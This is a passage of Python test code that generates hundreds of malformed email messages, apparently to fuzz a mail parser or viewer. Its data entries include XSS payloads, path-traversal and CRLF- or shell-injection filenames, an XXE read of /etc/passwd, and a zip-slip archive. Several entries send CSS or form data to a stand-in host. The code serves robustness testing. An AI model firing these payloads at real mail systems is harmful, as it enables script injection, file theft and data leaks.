    "parts-without-headers": lambda: multi(b"no blank line here", b"", b"\r\n", b"\r\n\r\n"),
    "part-with-50000-headers": lambda: multi(part(b"text/plain", b"x", *[b"X-A: b"] * 50_000)),
    "multipart-base64": lambda: encoded(
        b"base64", base64.encodebytes(joined([b"\r\nx"], b"b")), b"multipart/mixed; boundary=b"
    ),
    "multipart-no-parts-megabyte": lambda: typed(b"multipart/mixed; boundary=b", b"preamble " * 100_000),
    "multipart-unknown-kind": lambda: multi(part(b"text/plain", b"x"), kind=b"x-odd"),
    "alternative-empty": lambda: multi(kind=b"alternative"),
    "alternative-1000": lambda: multi(
        *[part(b"text/html", b"<b>x"), part(b"text/plain", b"x")] * 500, kind=b"alternative"
    ),
    "alternative-html-first": lambda: multi(
        part(b"text/html", b"<b>h"), part(b"text/plain", b"t"), kind=b"alternative"
    ),
    "related-start": lambda: multi(
        part(b"image/png", PNG, b"Content-ID: <i@odd>"),
        part(b"text/html", b"<img src='cid:i@odd'>", b"Content-ID: <root@odd>"),
        kind=b"related",
        more=b'; start="<root@odd>"; type="text/html"',
    ),
    "related-start-nowhere": lambda: multi(part(b"text/html", b"<b>"), kind=b"related", more=b'; start="<gone@odd>"'),
    "multipart-signed": lambda: multi(
        part(b"text/plain", b"signed"),
        part(b"application/pgp-signature", b"-----BEGIN PGP SIGNATURE-----\r\nodd\r\n-----END PGP SIGNATURE-----"),
        kind=b"signed",
        more=b"; protocol=application/pgp-signature; micalg=pgp-md5",
    ),
    "multipart-encrypted": lambda: multi(
        part(b"application/pgp-encrypted", b"Version: 1"),
        part(b"application/octet-stream", b"-----BEGIN PGP MESSAGE-----\r\n\r\nhQ==\r\n-----END PGP MESSAGE-----"),
        kind=b"encrypted",
    ),
    "multipart-form-data": lambda: multi(
        part(b"text/plain", b"x", b'Content-Disposition: form-data; name="f"'), kind=b"form-data"
    ),
}

TRANSFER: dict[str, Builder] = {
    "base64-junk-5-mb": lambda: encoded(b"base64", b"!*junk *()" * (5 * MIB // 10)),
    "base64-5-mb-one-line": lambda: encoded(b"base64", base64.b64encode(b"x" * (4 * MIB)), b"application/octet-stream"),
    "base64-no-padding": lambda: encoded(b"base64", b"YQ\r\n"),
    "base64-one-letter": lambda: encoded(b"base64", b"A\r\n"),
    "base64-too-much-padding": lambda: encoded(b"base64", b"YQ=======\r\n"),
    "base64-padding-inside": lambda: encoded(b"base64", b"YQ==YQ==\r\nYg==\r\n"),
    "base64-url-alphabet": lambda: encoded(b"base64", b"-_-_-_-_\r\n"),
    "base64-8-bit": lambda: encoded(b"base64", b"YW\xe9Jj\x00ZGVm\r\n"),
    "base64-with-footer": lambda: encoded(b"base64", b"YWJj\r\n\r\n-- \r\nThis list is run by odd.test\r\n"),
    "base64-html-as-text": lambda: encoded(b"base64", base64.encodebytes(b"<script>alert(1)</script>"), b"text/plain"),
    "base64-empty": lambda: encoded(b"base64", b""),
    "base64-equals-megabyte": lambda: encoded(b"base64", b"=" * MIB),
    "qp-broken": lambda: encoded(b"quoted-printable", b"=ZZ =E =\x00 =3 == =e2=82=ac end=\r\n"),
    "qp-ends-with-equals": lambda: encoded(b"quoted-printable", b"the end="),
    "qp-soft-breaks-only": lambda: encoded(b"quoted-printable", b"=\r\n" * 100_000),
    "qp-equals-megabyte": lambda: encoded(b"quoted-printable", b"=" * MIB),
    "qp-spaces-megabyte": lambda: encoded(b"quoted-printable", b" " * MIB + b"\r\n"),
    "qp-space-lines": lambda: encoded(b"quoted-printable", (b" " * 1_000 + b"x\r\n") * 1_000),
    "qp-nul-and-8-bit": lambda: encoded(b"quoted-printable", b"=00=FF=ED=A0=BD \xe9\x00\r\n"),
    "uuencode": lambda: encoded(b"x-uuencode", b"begin 644 odd.txt\r\n#8V%T\r\n`\r\nend\r\n"),
    "uuencode-broken": lambda: encoded(b"uuencode", b"begin 999999999 ../../x\r\nM!!!\r\n\xff\xff\r\n"),
    "uuencode-in-text": lambda: mail(body=b"See below.\r\n\r\nbegin 644 odd.txt\r\n#8V%T\r\n`\r\nend\r\n"),
    "yenc-like": lambda: mail(
        body=b"=ybegin line=128 size=5 name=odd.bin\r\n" + bytes(range(1, 256)) + b"\r\n=yend size=5\r\n"
    ),
    "encoding-unknown": lambda: encoded(b"x-odd", b"what is this\r\n"),
    "encoding-empty": lambda: encoded(b"", b"Body\r\n"),
    "encoding-upper-and-comment": lambda: encoded(b" (odd) BASE64 (very)", b"YWJj\r\n"),
    "encoding-quoted": lambda: encoded(b'"base64"', b"YWJj\r\n"),
    "encoding-twice": lambda: encoded(b"base64", b"YWJj\r\n").replace(
        b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: 7bit\r\n\r\n", 1
    ),
    "encoding-long": lambda: encoded(b"e" * 100_000, b"Body\r\n"),
    "binary-part-with-nuls": lambda: multi(
        part(b"application/octet-stream", bytes(range(256)) * 50, b"Content-Transfer-Encoding: binary")
    ),
    "binary-5-mb": lambda: encoded(b"binary", bytes(range(256)) * (5 * MIB // 256), b"application/octet-stream"),
    "body-nul": lambda: mail(body=b"a\x00b\r\n\x00\r\n"),
    "body-controls": lambda: mail(body=bytes(range(32)) + b"\x1b]0;title\x07\x1b[2J\x7f\r\n"),
}

CHARSETS: dict[str, Builder] = {
    **{
        f"charset-{name or 'empty'}": partial(text, name.encode(), ODD_BYTES)
        for name in ("", "foo", "hex", "idna", "punycode", "rot13", "zip", "bz2", "base64", "uu", "quopri", "utf-7")
    },
    **{
        f"charset-{name}": partial(text, name.encode(), ODD_BYTES)
        for name in (
            "unicode_escape",
            "raw_unicode_escape",
            "undefined",
            "mbcs",
            "utf-32",
            "cp037",
            "ebcdic-us",
            "none",
        )
    },
    "charset-odd": lambda: text(b'"utf-8; x"', b"caf\xe9"),
    "charset-1000": lambda: text(b"c" * 1_000, b"caf\xe9"),
    "charset-nul": lambda: text(b'"utf\x008"', b"caf\xe9"),
    "charset-path": lambda: text(b"../../etc/passwd", b"caf\xe9"),
    "charset-8-bit": lambda: text("ütf-8".encode(), b"caf\xe9"),
    "charset-invalid-utf-8": lambda: text(b"utf-8", b"a\xff\xfeb\xc3(\xe2\x82 \xf8\x88\x80\x80\x80 \xc0\x80"),
    "charset-cesu-8": lambda: text(b"utf-8", b"emoji \xed\xa0\xbd\xed\xb8\x80 lone \xed\xa0\xbd"),
    "charset-latin-1-says-utf-8": lambda: text(b"utf-8", "Grüße".encode("latin-1")),
    "charset-utf-8-says-latin-1": lambda: text(b"iso-8859-1", "Grüße €".encode()),
    "charset-utf-8-says-ascii": lambda: text(b"us-ascii", "Grüße €".encode()),
    "charset-1252-says-latin-1": lambda: text(b"iso-8859-1", "“€”".encode("cp1252")),
    "charset-none-8-bit": lambda: mail(body="Grüße".encode("latin-1")),
    "charset-utf-16-bom": lambda: text(b"utf-16", "Grüße 🎉".encode("utf-16"), b"binary"),
    "charset-utf-16-odd-length": lambda: text(b"utf-16", b"\xff\xfea\x00b", b"binary"),
    "charset-utf-16-base64": lambda: text(
        b"utf-16le", base64.encodebytes("Grüße\ud83d".encode("utf-16le", "surrogatepass")), b"base64"
    ),
    "charset-utf-16-nothing-says-so": lambda: mail(body="Grüße".encode("utf-16")),
    "charset-utf-8-bom": lambda: text(b"utf-8", b"\xef\xbb\xbfbody\xef\xbb\xbf"),
    "charset-utf-7": lambda: text(b"utf-7", b"+2D0- +ADw-script+AD4-alert(1)+ADw-/script+AD4- +", b"7bit"),
    "charset-iso-2022-jp": lambda: text(b"iso-2022-jp", JAPANESE.encode("iso-2022-jp"), b"7bit"),
    "charset-iso-2022-jp-broken": lambda: text(b"iso-2022-jp", b"\x1b$B$3\x1b(X\x1b\x1b$B$\r\n$3$s", b"7bit"),
    "charset-iso-2022-jp-unclosed": lambda: text(b"iso-2022-jp", b"\x1b$B" + b"$3" * 5_000, b"7bit"),
    "charset-iso-2022-kr": lambda: text(b"iso-2022-kr", b"\x1b$)C\x0e\x3e\x48\x0f \x0e\x3e", b"7bit"),
    "charset-hz": lambda: text(b"hz-gb-2312", b"~{<:Ky2;VpHK!#~} ~{", b"7bit"),
    "charset-shift-jis": lambda: text(b"shift_jis", JAPANESE.encode("shift_jis") + b"\x81"),
    "charset-euc-kr": lambda: text(b"ks_c_5601-1987", "안녕하세요".encode("euc-kr")),
    "charset-big5": lambda: text(b"big5", "許功蓋".encode("big5") + b"\xf9"),
    "charset-gb18030": lambda: text(b"gb18030", "你好🎉".encode("gb18030") + b"\x81\x30"),
    "charset-gb2312-really-gbk": lambda: text(b"gb2312", "镕".encode("gbk")),
    "charset-windows-1256": lambda: text(b"windows-1256", "مرحبا".encode("cp1256")),
    "charset-koi8-r": lambda: text(b"KOI8-R", "Привет".encode("koi8-r")),
    "charset-ebcdic": lambda: text(b"cp500", "Hello".encode("cp500"), b"binary"),
    "charset-macintosh": lambda: text(b"x-mac-roman", "Grüße".encode("mac-roman")),
    "charset-windows-874": lambda: text(b"windows-874", "สวัสดี".encode("cp874")),
    "charset-meta-differs": lambda: typed(
        b"text/html; charset=utf-8",
        b"<meta charset=koi8-r><p>" + "Привет".encode("koi8-r"),
        b"Content-Transfer-Encoding: 8bit",
    ),
    "charset-flowed": lambda: typed(
        b"text/plain; format=flowed; delsp=yes", b"> quoted \r\n> flow \r\n>>deeper\r\n -- \r\n-- \r\nsig \r\n"
    ),
}

FILES: dict[str, Builder] = {
    "file-name-path": lambda: named(b"../../../../etc/passwd"),
    "file-name-path-windows": lambda: named(b"..\\\\..\\\\windows\\\\system32\\\\x.dll"),
    "file-name-absolute": lambda: named(b"/etc/cron.d/odd"),
    "file-name-drive": lambda: named(b"C:evil.txt::$DATA"),
    "file-name-nul": lambda: named(b"safe.txt\x00.exe"),
    "file-name-crlf": lambda: attached(b"attachment; filename*=utf-8''a%0D%0ASet-Cookie:%20odd=1%0D%0A%0D%0A<b>.txt"),
    "file-name-folded": lambda: named(b"a\r\n b\r\n\tc.txt"),
    "file-name-rtl": lambda: named("invoice\u202efdp.exe".encode()),
    "file-name-10000": lambda: named(b"n" * 10_000 + b".txt"),
    "file-name-dots": lambda: named(b".."),
    "file-name-many-dots": lambda: named(b"." * 300),
    "file-name-empty": lambda: named(b""),
    "file-name-spaces": lambda: named(b"   "),
    "file-name-device": lambda: multi(
        *(part(b"text/plain; name=" + n, b"x") for n in (b"CON", b"nul.txt", b"COM1", b"LPT9.log"))
    ),
    "file-name-quotes": lambda: named(b'a\\"b\\\\c";x="d'),
    "file-name-markup": lambda: named(b"<img src=x onerror=alert(1)>.png"),
    "file-name-invalid-utf-8": lambda: named(b"caf\xe9\xff.txt"),
    "file-name-raw-utf-8": lambda: named("納品書.pdf".encode()),
    "file-name-encoded-word": lambda: named(word("納品書.pdf".encode())),
    "file-name-encoded-word-path": lambda: named(word(b"../../x\x00\r\n.txt")),
    "file-name-word-unknown-charset": lambda: named(word(b"caf\xe9.txt", b"foo")),
    "file-name-format": lambda: named(b"%s%n%(x)s{0.__class__}$(id)`id`|;&.txt"),
    "file-name-conflict": lambda: attached(b"attachment; filename=a.txt", b"image/png; name=b.png"),
    "file-name-duplicates": lambda: multi(
        *[part(b"text/plain", b"x", b"Content-Disposition: attachment; filename=a.txt")] * 50
    ),
    "file-double-extension": lambda: attached(b'attachment; filename="invoice.pdf.exe"', b"application/pdf"),
    "disposition-empty": lambda: attached(b""),
    "disposition-unknown": lambda: attached(b'x-odd; filename=a; size=-1; creation-date="never"'),
    "disposition-garbage": lambda: attached(b'"; ;filename = ; =x; filename'),
    "disposition-inline-text": lambda: attached(b"inline", b"text/plain"),
    "disposition-attachment-html-body": lambda: typed(
        b"text/html", b"<b>only part", b"Content-Disposition: attachment"
    ),
    "disposition-200-kb": lambda: attached(b"attachment; " + b"filename=a; " * 17_000),
    "type-lies-html": lambda: multi(
        part(b"image/png", b"<html><script>alert(1)</script>", b"Content-Disposition: inline; filename=a.png")
    ),
    "type-lies-svg": lambda: multi(
        part(b"image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")
    ),
    "type-active": lambda: multi(
        *(part(t, b"<script>alert(1)</script>") for t in (b"text/xml", b"application/xhtml+xml", b"text/javascript"))
    ),
    "cid-duplicate": lambda: multi(
        *[part(b"image/png", PNG, b"Content-ID: <a@odd>")] * 3, part(b"text/html", b"<img src=cid:a@odd>")
    ),
    "cid-loop": lambda: multi(
        part(b"text/html", b"<iframe src='cid:a@odd'></iframe><img src=cid:a@odd>", b"Content-ID: <a@odd>"),
        kind=b"related",
    ),
    "cid-odd": lambda: multi(
        *(
            part(b"image/png", PNG, b"Content-ID: " + c)
            for c in (b"", b"<>", b"<<a>>", b"a\x00b", b"<../x>", b"%3C", b"<a b>")
        )
    ),
    "cid-100-kb": lambda: multi(part(b"image/png", PNG, b"Content-ID: <" + b"c" * 100_000 + b">")),
    "content-location": lambda: multi(
        part(b"image/png", PNG, b"Content-Location: http://odd.test/a.png"), part(b"text/html", b"<img src=a.png>")
    ),
}

MARKUP: dict[str, Builder] = {
    "html-comments-200-kb": lambda: html(b"<!--" * 50_000),
    "html-comment-dashes": lambda: html(b"<!-" + b"-" * 200_000),
    "html-anchors-200-kb": lambda: html(b"<a " * 66_000),
    "html-less-than": lambda: html(b"<" * 200_000),
    "html-ampersands": lambda: html(b"&" * 200_000),
    "html-references": lambda: html(b"&#x0;&#xD800;&#x110000;&#99999999999999999999;&nope;" * 4_000),
    "html-nested-divs-100000": lambda: html(b"<div>" * 100_000),
    "html-nested-formatting": lambda: html(b"<b><i><a><font>" * 15_000 + b"<p>" * 1_000),
    "html-nested-tables": lambda: html(b"<table><tr><td>" * 15_000),
    "html-closing-only": lambda: html(b"</p>" * 50_000),
    "html-attributes-100000": lambda: html(b"<p " + b" ".join(b"a%d=b" % n for n in range(100_000)) + b">"),
    "html-attribute-open": lambda: html(b'<a href="' + b"x" * 200_000),
    "html-attribute-1-mb": lambda: html(b'<p title="' + b"x" * MIB + b'">'),
    "html-unclosed": lambda: html(b"<html><body><table><tr><td><style>p{<script>if(1<!--<textarea><title><p"),
    "html-cdata": lambda: html(b"<![CDATA[" * 20_000 + b"<?php " * 20_000 + b"<!DOCTYPE " * 1_000),
    "html-selects": lambda: html(b"<select><option>" * 20_000),
    "html-nul": lambda: html(b"<scr\x00ipt>alert(1)</scr\x00ipt><p\x00 o\x00nclick=alert(1)>a\x00b"),
    "html-script": lambda: html(
        b"<script>alert(document.cookie)</script><SCRIPT SRC=//odd.test/x></SCRIPT><scr<script>ipt>"
    ),
    "html-handlers": lambda: html(
        b"<img src=x onerror=alert(1)><body onload=alert(1)><p onclick=alert(1)><video onplay=alert(1)>"
    ),
    "html-svg": lambda: html(
        b"<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'><animate onbegin=alert(1)>"
    ),
    "html-math": lambda: html(
        b"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "html-css": lambda: html(
        b"<style>@import 'http://odd.test/a.css';p{background:url(//odd.test/x);}</style><p style='x:expression(1)'>"
    ),
    "html-css-attribute-leak": lambda: html(
        b"<style>input[value^=a]{background:url(//odd.test/a)}@font-face{src:url(//odd.test/f)}</style>"
    ),
    "html-css-escape-body": lambda: html(
        b"<style>*{position:fixed;inset:0;z-index:2147483647}</style><div style='width:1e9px'>big"
    ),
    "html-meta-refresh": lambda: html(
        b"<meta http-equiv=refresh content='0;url=http://odd.test/'><meta http-equiv=set-cookie content=a=b>"
    ),
    "html-meta-csp": lambda: html(
        b'<meta http-equiv=content-security-policy content="default-src *"><meta name=referrer content=unsafe-url>'
    ),
    "html-base": lambda: html(b"<base href='http://odd.test/' target=_top><a href=relative>r</a><img src=a.png>"),
    "html-form": lambda: html(
        b"<form action=http://odd.test/ method=post><input name=password><button formaction=//odd.test/>go</form>"
    ),
    "html-iframe": lambda: html(
        b"<iframe src=http://odd.test/></iframe><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>"
    ),
    "html-object": lambda: html(
        b"<object data=data:text/html,x></object><embed src=x><applet code=x></applet><portal src=x></portal>"
    ),
    "html-links": lambda: html(
        b"<a href=javascript:alert(1)>a</a><a href='java\tscript:alert(1)'>b</a><a href=data:text/html,x>c</a>"
    ),
    "html-link-headers": lambda: html(
        b"<link rel=stylesheet href=//odd.test/a><link rel=dns-prefetch href=//odd.test><link rel=prerender href=/>"
    ),
    "html-remote": lambda: html(
        b"<img src=http://odd.test/a srcset='//odd.test/b 2x'><video poster=//odd.test/c><td background=//odd.test/d>"
    ),
    "html-template": lambda: html(
        b"<template><img src=x onerror=alert(1)></template><noscript><p title='</noscript><img src=x>'>"
    ),
    "html-clobber": lambda: html(b"<form id=location><img name=cookie><input id=attributes><a id=document name=body>"),
    "html-self-requests": lambda: html(
        b"<img src=/api/v1/messages><form action=/api/v1/messages method=post><a href=/?q=x ping=/api>"
    ),
    "html-data-images": lambda: html(
        b"<img src='data:image/svg+xml,<svg onload=alert(1)>'><img src=data:image/png;base64," + b"A" * 500_000 + b">"
    ),
    "html-20000-images": lambda: html(b"".join(b"<img src=http://odd.test/%d>" % n for n in range(20_000))),
    "html-20000-links": lambda: html(b"".join(b"<a href=http://odd.test/%d>%d</a>" % (n, n) for n in range(20_000))),
    "html-frameset": lambda: html(b"<frameset><frame src=http://odd.test/></frameset><noframes>none"),
    "html-declared-utf-16": lambda: html(b"<meta charset=utf-16><p>\xff\xfe<\x00b\x00>"),
    "html-in-plain": lambda: mail(
        body=b'<script>alert(1)</script> https://odd.test/?a=<b>&c="d javascript:alert(1)\r\n'
    ),
    "plain-urls-20000": lambda: mail(body=b"".join(b"https://odd.test/%d\r\n" % n for n in range(20_000))),
    "plain-url-1-mb": lambda: mail(body=b"https://odd.test/" + b"a" * MIB),
    "plain-url-dots": lambda: mail(body=b"http://" + b"a." * 100_000),
    "plain-digits-1-mb": lambda: mail(body=b"1" * MIB),
    "plain-codes-100000": lambda: mail(body=b"code 123456\r\n" * 100_000),
    "plain-at-signs-1-mb": lambda: mail(body=b"a@" * (MIB // 2)),
    "plain-quotes-deep": lambda: mail(body=b">" * 200_000 + b" deep\r\n" + b"> " * 20_000 + b"deeper\r\n"),
    "plain-combining": lambda: text(b"utf-8", ("e" + "\u0301" * 100_000).encode()),
    "plain-wide": lambda: text(b"utf-8", ("﷽" * 5_000 + "𒐫" * 5_000 + "🏴" * 5_000).encode()),
}

KINDS: dict[str, Builder] = {
    "tnef": lambda: attached(b"attachment; filename=winmail.dat", b"application/ms-tnef").replace(
        b"data", b"\x78\x9f\x3e\x22\x01\x00" + b"\xff" * 40
    ),
    "smime-opaque": lambda: encoded(
        b"base64", base64.encodebytes(b"0\x80\x06\x09*\x86H"), b"application/pkcs7-mime; smime-type=enveloped-data"
    ),
    "pgp-inline": lambda: mail(
        body=b"-----BEGIN PGP MESSAGE-----\r\nVersion: odd\r\n\r\nhQEMA\r\n=abcd\r\n-----END PGP MESSAGE-----\r\n"
    ),
    "calendar-broken": lambda: typed(
        b"text/calendar; method=REQUEST", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDTSTART:x\r\nRRULE:FREQ=SECONDLY\r\n"
    ),
    "calendar-nested": lambda: typed(b"text/calendar", b"BEGIN:VEVENT\r\n" * 20_000),
    "vcard": lambda: typed(
        b"text/vcard", b"BEGIN:VCARD\r\nFN:" + b"x" * 10_000 + b"\r\nPHOTO;ENCODING=b:!!!\r\nEND:VCARD\r\n"
    ),
    "message-partial": lambda: typed(b'message/partial; id="a@odd"; number=999999999; total=-1', mail()),
    "message-external-body": lambda: typed(
        b'message/external-body; access-type=local-file; name="/etc/passwd"', b"Content-Type: text/plain\r\n\r\n"
    ),
    "message-external-body-url": lambda: typed(
        b'message/external-body; access-type=URL; url="http://odd.test/"', b"\r\n"
    ),
    "message-delivery-status": lambda: multi(
        part(b"text/plain", b"It bounced."),
        part(
            b"message/delivery-status",
            b"Reporting-MTA: dns; odd.test\r\n\r\nFinal-Recipient: rfc822; b@odd.test\r\nStatus: 9.9.9",
        ),
        part(b"message/rfc822", mail()),
        kind=b"report",
        more=b"; report-type=delivery-status",
    ),
    "message-delivery-status-20000": lambda: typed(b"message/delivery-status", b"Action: failed\r\n\r\n" * 20_000),
    "message-disposition": lambda: typed(
        b"message/disposition-notification", b"Disposition: manual-action/; displayed\r\n"
    ),
    "message-feedback-report": lambda: typed(b"message/feedback-report", b"Feedback-Type: abuse\r\nVersion: x\r\n"),
    "message-rfc822-empty": lambda: multi(part(b"message/rfc822", b"")),
    "message-rfc822-attachment": lambda: multi(
        part(b"message/rfc822", named(b"inner.txt"), b"Content-Disposition: attachment; filename=a.eml")
    ),
    "message-rfc822-broken-base64": lambda: encoded(b"base64", b"!!!!", b"message/rfc822"),
    "message-global": lambda: typed(b"message/global", "Subject: Grüße\r\n\r\nKörper".encode()),
    "message-http": lambda: typed(b"message/http", b"GET / HTTP/1.1\r\n\r\n"),
    "text-enriched": lambda: typed(b"text/enriched", b"<bold>odd</bold> <<param>"),
    "text-rtf": lambda: typed(b"text/rtf", b"{\\rtf1 {\\object\\objdata 0105}" + b"{" * 10_000),
    "text-unknown": lambda: typed(b"text/x-odd; charset=foo", b"caf\xe9"),
    "amp-html": lambda: multi(
        part(b"text/plain", b"t"),
        part(b"text/x-amp-html", b"<html amp4email>"),
        part(b"text/html", b"<b>h"),
        kind=b"alternative",
    ),
    "image-broken": lambda: encoded(b"base64", base64.encodebytes(PNG[:20]), b"image/png; name=half.png"),
    "image-bomb-header": lambda: encoded(
        b"base64",
        base64.encodebytes(PNG[:16] + b"\x7f\xff\xff\xff\x7f\xff\xff\xff" + PNG[24:]),
        b"image/png; name=huge.png",
    ),
    "zip-slip": lambda: encoded(
        b"base64", base64.encodebytes(b"PK\x03\x04" + b"\x00" * 22 + b"\x08\x00\x00\x00../../xx"), b"application/zip"
    ),
    "xml-entities": lambda: typed(
        b"application/xml",
        b'<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;"><!ENTITY x SYSTEM "file:///etc/passwd">]><a>&c;&x;</a>',
    ),
    "json-deep": lambda: typed(b"application/json", b"[" * 100_000),
    "large-10-mb": lambda: mail(body=b"x" * 76 + (b"\r\n" + b"y" * 76) * (10 * MIB // 78)),
    "large-15-mb-base64": lambda: encoded(b"base64", base64.encodebytes(bytes(10 * MIB)), b"application/octet-stream"),
}

ODD: dict[str, Builder] = {
    **SHAPE, **LINES, **HEADERS, **SUBJECTS, **ADDRESSES, **FIELDS, **CONTENT_TYPES, **BOUNDARIES,
    **TRANSFER, **CHARSETS, **FILES, **MARKUP, **KINDS,
}  # fmt: skip
